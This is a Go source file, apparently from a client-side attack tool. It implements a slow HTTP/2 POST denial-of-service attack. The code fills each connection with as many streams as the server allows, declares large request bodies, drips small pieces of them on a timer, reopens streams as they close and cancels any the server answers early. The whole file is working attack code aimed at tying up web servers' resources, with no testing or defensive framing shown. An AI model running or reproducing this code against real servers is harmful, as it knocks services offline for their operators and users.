package client

import (
	"bytes"
	"context"
	"io"
	"net"
	"strconv"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// openStreams are those of one connection of HTTP/2.
type openStreams struct {
	*Attack
	framer *http2.Framer
	block  []byte // the header block of each request
	open   map[uint32]bool
	last   uint32 // the last stream that was opened
	most   int    // that the server allows
	body   []byte
}

// received is what matters of a frame.
type received struct {
	kind   http2.FrameType
	stream uint32
	ends   bool // the stream
	most   int  // streams that a SETTINGS frame allows; 0: it does not say
	ack    bool
	ping   [8]byte
}

// streams opens POST requests on a connection and sends pieces of their bodies
// until the server ends it.
func (s *Attack) streams(ctx context.Context, conn net.Conn) {
	c := &openStreams{Attack: s, framer: http2.NewFramer(conn, conn), open: map[uint32]bool{}, most: s.Streams, body: s.piece()}
	c.block = s.headers()
	defer func() { s.held.Add(-int64(len(c.open))) }()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || c.framer.WriteSettings() != nil {
		return
	}
	ctx, stop := context.WithCancel(ctx)
	defer stop()
	frames := make(chan received)
	go c.listen(ctx, frames) // ends with the connection or ctx
	defer conn.Close()
	pieces, again := time.NewTicker(s.Every), time.NewTicker(s.Again)
	defer pieces.Stop()
	defer again.Stop()
	for {
		var err error
		select {
		case h, ok := <-frames:
			if !ok {
				s.ended.Add(int64(len(c.open)))
				return
			}
			err = c.take(h)
		case <-again.C:
			err = c.fill()
		case <-pieces.C:
			err = c.send()
		case <-ctx.Done():
			return
		}
		if err != nil {
			s.ended.Add(int64(len(c.open)))
			return
		}
	}
}

// headers is the header block of a request, without a dynamic table: it is the
// same each time.
func (s *Attack) headers() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	e.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{
		{":method", "POST"},
		{":scheme", "https"},
		{":authority", s.url.Host},
		{":path", s.url.RequestURI()},
		{"content-type", "application/x-www-form-urlencoded"},
		{"content-length", strconv.Itoa(s.Length)},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // into memory
	}
	return b.Bytes()
}

// listen passes on what the server says; it closes frames at the end.
func (c *openStreams) listen(ctx context.Context, frames chan<- received) {
	defer close(frames)
	for {
		f, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		h := received{kind: f.Header().Type, stream: f.Header().StreamID}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			h.ack = f.IsAck()
			if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
				h.most = int(v)
			}
		case *http2.PingFrame:
			h.ack, h.ping = f.IsAck(), f.Data
		case *http2.HeadersFrame:
			h.ends = f.StreamEnded()
		case *http2.DataFrame:
			h.ends = f.StreamEnded()
		case *http2.RSTStreamFrame:
			h.ends = true
		}
		select {
		case frames <- h:
		case <-ctx.Done():
			return
		}
	}
}

// take answers a frame.
func (c *openStreams) take(h received) error {
	switch {
	case h.kind == http2.FrameSettings && !h.ack:
		if h.most > 0 {
			c.most = min(c.Streams, h.most)
		}
		if err := c.framer.WriteSettingsAck(); err != nil {
			return err
		}
		return c.fill()
	case h.kind == http2.FramePing && !h.ack:
		return c.framer.WritePing(true, h.ping)
	case h.kind == http2.FrameGoAway:
		return io.EOF
	case h.ends && c.open[h.stream]:
		delete(c.open, h.stream)
		c.held.Add(-1)
		c.ended.Add(1)
		if h.kind != http2.FrameRSTStream { // answered before its end: as a client does that gives up
			return c.framer.WriteRSTStream(h.stream, http2.ErrCodeCancel)
		}
	}
	return nil
}

// fill opens as many streams as may be.
func (c *openStreams) fill() error {
	for len(c.open) < c.most {
		if c.last == 0 {
			c.last = 1
		} else {
			c.last += 2
		}
		err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.last, BlockFragment: c.block, EndHeaders: true})
		if err != nil {
			return err
		}
		c.open[c.last] = true
		c.held.Add(1)
	}
	return nil
}

// send sends a piece on each stream.
func (c *openStreams) send() error {
	for stream := range c.open {
		if err := c.framer.WriteData(stream, false, c.body); err != nil {
			return err
		}
	}
	return nil
}
